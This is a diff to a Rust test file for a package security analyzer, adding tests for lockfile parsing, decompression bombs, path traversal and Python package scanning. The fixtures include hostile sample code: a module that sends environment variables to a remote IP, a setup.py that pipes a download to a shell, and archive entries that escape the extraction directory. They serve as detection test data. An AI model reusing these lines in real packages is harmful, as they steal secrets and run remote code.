@@ -2,7 +2,11 @@
 
 use std::fs;
 use tempfile::TempDir;
-use threatflux_package_security::{PackageSecurityAnalyzer, RiskLevel};
+use threatflux_package_security::core::FindingType;
+use threatflux_package_security::{
+    AnalysisOptions, NpmAnalyzer, PackageAnalyzer, PackageSecurityAnalyzer, PackageSecurityError,
+    RiskLevel,
+};
 
 // Helper to create test package files
 fn create_npm_package(dir: &TempDir, package_json: &str) {
@@ -229,6 +233,16 @@ setup(
         has_network_access,
         "Should detect network access in setup.py"
     );
+
+    // The subprocess call is located in setup.py
+    let execution = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "EXEC_001")
+        .expect("subprocess call should be detected");
+    assert_eq!(execution.file, std::path::Path::new("setup.py"));
+    assert_eq!(execution.line, Some(7));
+    assert_eq!(execution.column, Some(1));
 }
 
 #[tokio::test]
@@ -405,18 +419,27 @@ async fn test_package_quality_metrics() {
     let analyzer = PackageSecurityAnalyzer::new().unwrap();
     let result = analyzer.analyze(temp_dir.path()).await.unwrap();
 
-    // Check that quality metrics are available (even if basic)
+    // Tested through `scripts.test`, but without a README or CI
     let quality_metrics = result.quality_metrics();
-    println!(
-        "Documentation score: {}",
-        quality_metrics.documentation_score()
-    );
-    println!("Has tests: {}", quality_metrics.has_tests());
-    println!("Has CI/CD: {}", quality_metrics.has_ci_cd());
+    assert!(quality_metrics.has_tests());
+    assert!(!quality_metrics.has_ci_cd());
+    assert!((quality_metrics.documentation_score() - 0.6).abs() < 1e-6);
 
-    // Basic validation that metrics are returned
-    assert!(quality_metrics.documentation_score() >= 0.0);
-    assert!(quality_metrics.documentation_score() <= 1.0);
+    fs::write(temp_dir.path().join("README.md"), "# high-quality-package").unwrap();
+    fs::write(temp_dir.path().join(".travis.yml"), "language: node_js").unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let quality_metrics = result.quality_metrics();
+    assert!(quality_metrics.has_ci_cd());
+    assert!((quality_metrics.documentation_score() - 1.0).abs() < 1e-6);
+
+    // `npm init` writes a test script that runs no tests
+    let untested = TempDir::new().unwrap();
+    create_npm_package(
+        &untested,
+        r#"{"name": "untested", "version": "1.0.0", "scripts": {"test": "echo \"Error: no test specified\" && exit 1"}}"#,
+    );
+    let result = analyzer.analyze(untested.path()).await.unwrap();
+    assert!(!result.quality_metrics().has_tests());
 }
 
 #[tokio::test]
@@ -425,21 +448,154 @@ async fn test_error_handling() {
 
     // Test with nonexistent directory
     let result = analyzer.analyze("nonexistent_directory").await;
-    assert!(result.is_err(), "Should fail for nonexistent directory");
+    assert!(
+        matches!(result, Err(PackageSecurityError::PathNotFound { .. })),
+        "Should fail for nonexistent directory"
+    );
 
     // Test with empty directory
     let empty_dir = TempDir::new().unwrap();
     let result = analyzer.analyze(empty_dir.path()).await;
     assert!(
-        result.is_err(),
+        matches!(result, Err(PackageSecurityError::NoPackageManifest { .. })),
         "Should fail for directory with no package files"
     );
 
+    // A file no analyzer handles
+    let notes = empty_dir.path().join("notes.txt");
+    fs::write(&notes, "not a package").unwrap();
+    let result = analyzer.analyze(&notes).await;
+    assert!(matches!(
+        result,
+        Err(PackageSecurityError::Unsupported { .. })
+    ));
+
     // Test with invalid JSON
     let invalid_dir = TempDir::new().unwrap();
     fs::write(invalid_dir.path().join("package.json"), "invalid json {").unwrap();
+    fs::write(invalid_dir.path().join("yarn.lock"), "lodash@^4.17.0:\n").unwrap();
     let result = analyzer.analyze(invalid_dir.path()).await;
-    assert!(result.is_err(), "Should fail for invalid JSON");
+    match result {
+        Err(PackageSecurityError::ManifestParse { message }) => {
+            assert!(message.contains("package.json"), "{message}")
+        }
+        Err(other) => panic!("Should fail to parse invalid JSON, got {other}"),
+        Ok(_) => panic!("Should fail for invalid JSON"),
+    }
+
+    // A broken lockfile next to a valid manifest is skipped with a warning
+    let partial_dir = TempDir::new().unwrap();
+    fs::write(
+        partial_dir.path().join("package.json"),
+        r#"{"name": "partial", "version": "1.0.0", "dependencies": {"lodash": "^4.17.0"}}"#,
+    )
+    .unwrap();
+    fs::write(
+        partial_dir.path().join("yarn.lock"),
+        "<<<<<<< HEAD\nlodash@^4.17.0:\n  version \"4.17.21\"\n",
+    )
+    .unwrap();
+    let result = analyzer
+        .analyze(partial_dir.path())
+        .await
+        .expect("Should succeed with a broken lockfile");
+    let risk = result.risk_assessment();
+    assert!(risk.is_partial());
+    let warning = risk
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::PartialParse)
+        .unwrap();
+    assert_eq!(warning.affected_components, vec!["yarn.lock"]);
+    assert_eq!(warning.severity, RiskLevel::Safe);
+    assert_eq!(result.dependency_analysis().dependency_tree.len(), 1);
+}
+
+#[tokio::test]
+async fn test_npm_lockfile_transitive_tree() {
+    let package_json = r#"{
+        "name": "locked-app",
+        "version": "1.0.0",
+        "dependencies": {"mkdirp": "^0.5.1", "left-pad": "^2.0.0", "chalk": "^4.1.0"}
+    }"#;
+    // mkdirp needs an old minimist, nested beneath it next to a hoisted newer one
+    let v3 = r#"{
+        "lockfileVersion": 3,
+        "packages": {
+            "": {"dependencies": {"mkdirp": "^0.5.1", "left-pad": "^2.0.0"}},
+            "node_modules/mkdirp": {"version": "0.5.1", "dependencies": {"minimist": "0.0.8"}},
+            "node_modules/mkdirp/node_modules/minimist": {"version": "0.0.8"},
+            "node_modules/minimist": {"version": "1.2.8"},
+            "node_modules/left-pad": {"version": "1.3.0"}
+        }
+    }"#;
+    let v1 = r#"{
+        "lockfileVersion": 1,
+        "dependencies": {
+            "mkdirp": {
+                "version": "0.5.1",
+                "requires": {"minimist": "0.0.8"},
+                "dependencies": {"minimist": {"version": "0.0.8"}}
+            },
+            "minimist": {"version": "1.2.8"},
+            "left-pad": {"version": "1.3.0"}
+        }
+    }"#;
+    let yarn = r#"# yarn lockfile v1
+
+mkdirp@^0.5.1:
+  version "0.5.1"
+  dependencies:
+    minimist "0.0.8"
+
+minimist@0.0.8:
+  version "0.0.8"
+
+minimist@^1.2.0:
+  version "1.2.8"
+
+left-pad@^2.0.0:
+  version "1.3.0"
+"#;
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    for (file, lockfile) in [
+        ("package-lock.json", v3),
+        ("package-lock.json", v1),
+        ("yarn.lock", yarn),
+    ] {
+        let temp_dir = TempDir::new().unwrap();
+        create_npm_package(&temp_dir, package_json);
+        fs::write(temp_dir.path().join(file), lockfile).unwrap();
+
+        let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+        let analysis = result.dependency_analysis();
+        let mkdirp = analysis
+            .dependency_tree
+            .iter()
+            .find(|dep| dep.name == "mkdirp")
+            .unwrap();
+        assert_eq!(mkdirp.dependencies.len(), 1, "{}", lockfile);
+        let minimist = &mkdirp.dependencies[0];
+        assert_eq!(minimist.resolved_version.as_deref(), Some("0.0.8"));
+        assert!(!minimist.is_direct);
+        assert!(result
+            .vulnerabilities()
+            .iter()
+            .any(|v| v.id == "CVE-2020-7598"));
+        assert_eq!(analysis.transitive_dependencies, 1);
+
+        // chalk is missing from the lockfile, left-pad is locked outside its range
+        let unmatched: Vec<_> = result
+            .risk_assessment()
+            .detailed_findings
+            .iter()
+            .filter(|f| f.rule_id.as_deref() == Some("TFX-NPM-LOCK-001"))
+            .flat_map(|f| f.affected_components.iter().map(String::as_str))
+            .collect();
+        assert_eq!(unmatched.len(), 2);
+        assert!(unmatched.contains(&"chalk") && unmatched.contains(&"left-pad"));
+    }
 }
 
 #[test]
@@ -502,20 +658,221 @@ async fn test_vulnerability_severity_classification() {
 }
 
 // Additional security tests
+/// Gzipped tarball of raw tar entries, each a header path, declared size and content
+///
+/// Paths are written into the header as given, so they may hold `..`.
+fn raw_tarball(path: &std::path::Path, entries: &[(&str, u64, &[u8])]) {
+    use std::io::Write;
+
+    let mut tar = Vec::new();
+    for (name, size, content) in entries {
+        let mut header = tar::Header::new_old();
+        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+        header.set_size(*size);
+        header.set_mode(0o644);
+        header.set_entry_type(tar::EntryType::Regular);
+        header.set_cksum();
+        tar.extend_from_slice(header.as_bytes());
+        tar.extend_from_slice(content);
+        tar.resize(tar.len().div_ceil(512) * 512, 0);
+    }
+    tar.resize(tar.len() + 1024, 0);
+    let mut gzip =
+        flate2::write::GzEncoder::new(fs::File::create(path).unwrap(), Default::default());
+    gzip.write_all(&tar).unwrap();
+    gzip.finish().unwrap();
+}
+
 #[tokio::test]
-#[ignore = "requires zip bomb test data"]
 async fn test_zip_bomb_protection() {
-    // Test that zip bombs are detected and handled safely
-    // This would need actual zip bomb test data
-    todo!("Implement zip bomb protection test with actual test data");
+    // An entry claiming more than the per-entry cap is refused before it is read
+    let temp_dir = TempDir::new().unwrap();
+    let archive = temp_dir.path().join("bomb-1.0.0.tgz");
+    let manifest = br#"{"name": "bomb", "version": "1.0.0"}"#;
+    raw_tarball(
+        &archive,
+        &[
+            ("package/package.json", manifest.len() as u64, manifest),
+            ("package/payload.bin", 1 << 40, b""),
+        ],
+    );
+
+    let error = PackageSecurityAnalyzer::new()
+        .unwrap()
+        .analyze(&archive)
+        .await
+        .err()
+        .expect("oversized entry should be refused");
+    assert!(error.to_string().contains("entry larger than"), "{error:#}");
+
+    // A tar of 8 MiB of zeros gzips to a few KiB, far past the default ratio
+    let archive = temp_dir.path().join("ratio-1.0.0.tgz");
+    let zeros = vec![0u8; 8 * 1024 * 1024];
+    raw_tarball(
+        &archive,
+        &[
+            ("package/package.json", manifest.len() as u64, manifest),
+            ("package/payload.bin", zeros.len() as u64, &zeros),
+        ],
+    );
+    assert!(fs::metadata(&archive).unwrap().len() < 64 * 1024);
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let options = AnalysisOptions::default();
+    let error = analyzer
+        .analyze_with_options(&archive, &options)
+        .await
+        .expect_err("decompression bomb should be refused");
+    match error.downcast_ref::<PackageSecurityError>() {
+        Some(PackageSecurityError::DecompressionBomb { ratio, .. }) => {
+            assert!(*ratio > options.max_compression_ratio, "{error:#}")
+        }
+        other => panic!("unexpected error {other:?}: {error:#}"),
+    }
+
+    // Within a looser ratio it unpacks, until the size limit is lowered
+    let options = AnalysisOptions {
+        max_compression_ratio: 1e6,
+        ..AnalysisOptions::default()
+    };
+    assert!(analyzer
+        .analyze_with_options(&archive, &options)
+        .await
+        .is_ok());
+    let options = AnalysisOptions {
+        max_decompressed_bytes: 1024 * 1024,
+        ..options
+    };
+    let error = analyzer
+        .analyze_with_options(&archive, &options)
+        .await
+        .expect_err("size limit should be enforced");
+    assert!(matches!(
+        error.downcast_ref::<PackageSecurityError>(),
+        Some(PackageSecurityError::DecompressionBomb { decompressed, .. }) if *decompressed > 1024 * 1024
+    ));
 }
 
 #[tokio::test]
-#[ignore = "requires path traversal test data"]
 async fn test_path_traversal_protection() {
-    // Test that package paths like ../../../etc/passwd are handled safely
-    // This would need actual path traversal test data
-    todo!("Implement path traversal protection test with actual test data");
+    // Entries leading out of the archive, or absolute ones, fail the extraction
+    let temp_dir = TempDir::new().unwrap();
+    let manifest = br#"{"name": "traversal", "version": "1.0.0"}"#;
+    let payload = b"echo pwned";
+    for entry in ["package/../../escaped.sh", "/tmp/escaped.sh"] {
+        let archive = temp_dir.path().join("traversal-1.0.0.tgz");
+        raw_tarball(
+            &archive,
+            &[
+                ("package/package.json", manifest.len() as u64, manifest),
+                (entry, payload.len() as u64, payload),
+            ],
+        );
+
+        let error = NpmAnalyzer::new()
+            .unwrap()
+            .analyze(&archive)
+            .await
+            .expect_err("escaping entry should be refused");
+        assert_eq!(
+            error.downcast_ref::<PackageSecurityError>(),
+            Some(&PackageSecurityError::UnsafePath {
+                entry: entry.to_string()
+            }),
+            "{error:#}"
+        );
+    }
+    assert!(!temp_dir.path().join("escaped.sh").exists());
+}
+
+fn wheel(path: &std::path::Path, entries: &[(&str, &str)]) {
+    use std::io::Write;
+
+    let mut zip = zip::ZipWriter::new(fs::File::create(path).unwrap());
+    for (name, content) in entries {
+        zip.start_file(*name, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        zip.write_all(content.as_bytes()).unwrap();
+    }
+    zip.finish().unwrap();
+}
+
+#[tokio::test]
+async fn test_python_distribution_archives() {
+    let temp_dir = TempDir::new().unwrap();
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+
+    // Metadata comes from the wheel's .dist-info, and bundled modules are scanned
+    let archive = temp_dir.path().join("fast_json-0.1.0-py3-none-any.whl");
+    wheel(
+        &archive,
+        &[
+            (
+                "fast_json-0.1.0.dist-info/METADATA",
+                "Metadata-Version: 2.1\nName: fast-json\nVersion: 0.1.0\nSummary: Faster JSON\nProject-URL: Source, https://github.com/example/fast-json\n\nLong description\n",
+            ),
+            (
+                "fast_json/__init__.py",
+                "import os, urllib.request\nurllib.request.urlopen('http://203.0.113.7/', data=str(dict(os.environ)).encode())\n",
+            ),
+        ],
+    );
+    let result = analyzer.analyze(&archive).await.unwrap();
+    let metadata = result.package_info().metadata();
+    assert_eq!(result.package_info().package_type(), "python");
+    assert_eq!(metadata.name, "fast-json");
+    assert_eq!(metadata.version, "0.1.0");
+    assert_eq!(metadata.description.as_deref(), Some("Faster JSON"));
+    assert_eq!(
+        metadata.repository.as_deref(),
+        Some("https://github.com/example/fast-json")
+    );
+    let exfiltration = result
+        .malicious_patterns()
+        .iter()
+        .find(|p| p.pattern_id == "EXFIL_002")
+        .expect("bundled module scanned");
+    assert_eq!(
+        exfiltration.file,
+        std::path::Path::new("fast_json/__init__.py")
+    );
+
+    // An sdist's PKG-INFO, and the setup.py pip runs
+    let archive = temp_dir.path().join("fast-json-0.1.0.tar.gz");
+    let pkg_info = b"Metadata-Version: 1.2\nName: fast-json\nVersion: 0.1.0\n";
+    let setup_py = b"import os\nos.system('curl -s http://203.0.113.7/x | bash -i')\n";
+    raw_tarball(
+        &archive,
+        &[
+            ("fast-json-0.1.0/PKG-INFO", pkg_info.len() as u64, pkg_info),
+            ("fast-json-0.1.0/setup.py", setup_py.len() as u64, setup_py),
+        ],
+    );
+    let result = analyzer.analyze(&archive).await.unwrap();
+    assert_eq!(result.package_info().metadata().name, "fast-json");
+    assert!(result
+        .malicious_patterns()
+        .iter()
+        .any(|p| p.pattern_id == "BACK_001" && p.file == std::path::Path::new("setup.py")));
+
+    // Wheels are held to the same path checks as tarballs
+    let archive = temp_dir.path().join("evil-0.1.0-py3-none-any.whl");
+    wheel(
+        &archive,
+        &[
+            (
+                "evil-0.1.0.dist-info/METADATA",
+                "Name: evil\nVersion: 0.1.0\n",
+            ),
+            ("../escaped.py", "print('pwned')\n"),
+        ],
+    );
+    assert_eq!(
+        analyzer.analyze(&archive).await.err(),
+        Some(PackageSecurityError::UnsafePath {
+            entry: "../escaped.py".to_string()
+        })
+    );
 }
 
 #[tokio::test]
@@ -543,3 +900,63 @@ async fn test_typosquatting_detection_accuracy() {
     // This would need typosquatting test data
     todo!("Implement typosquatting detection accuracy test with actual test data");
 }
+
+#[tokio::test]
+async fn test_pinning_report() {
+    use threatflux_package_security::core::PinningStyle;
+    use threatflux_package_security::AnalysisResult;
+
+    let package_json = r#"{
+        "name": "pinning-fixture",
+        "version": "1.0.0",
+        "dependencies": {
+            "lodash": "4.17.21",
+            "chalk": "^5.0.0",
+            "debug": "~4.3.0",
+            "left-pad": "*",
+            "ms": ">=2.0.0",
+            "local-lib": "file:../local-lib"
+        }
+    }"#;
+    let lockfile = r#"{
+        "lockfileVersion": 1,
+        "dependencies": {
+            "left-pad": {"version": "1.3.0"}
+        }
+    }"#;
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let temp_dir = TempDir::new().unwrap();
+    create_npm_package(&temp_dir, package_json);
+    let unlocked = analyzer.analyze(temp_dir.path()).await.unwrap();
+    fs::write(temp_dir.path().join("package-lock.json"), lockfile).unwrap();
+    let locked = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let report = locked.pinning_report();
+    for style in [
+        PinningStyle::Pinned,
+        PinningStyle::Caret,
+        PinningStyle::Tilde,
+        PinningStyle::Range,
+        PinningStyle::Wildcard,
+    ] {
+        assert_eq!(report.count(style), 1, "{:?}", style);
+    }
+    assert_eq!(report.unclassified, 1);
+    assert_eq!(report.loose, 2);
+    assert_eq!(report.loose_share(), 0.4);
+
+    // The wildcard is the worst offender, but the lockfile holds it
+    assert_eq!(report.worst_offenders[0].name, "left-pad");
+    assert_eq!(
+        report.worst_offenders[0].locked_version.as_deref(),
+        Some("1.3.0")
+    );
+    assert_eq!(report.worst_offenders[1].name, "ms");
+    assert_eq!(report.mitigated_by_lockfile, 1);
+    assert_eq!(unlocked.pinning_report().mitigated_by_lockfile, 0);
+
+    // Only the loose ranges no lockfile holds feed the supply chain score
+    assert!(unlocked.supply_chain_risk_score() > locked.supply_chain_risk_score());
+    assert!(locked.supply_chain_risk_score() > 0.0);
+}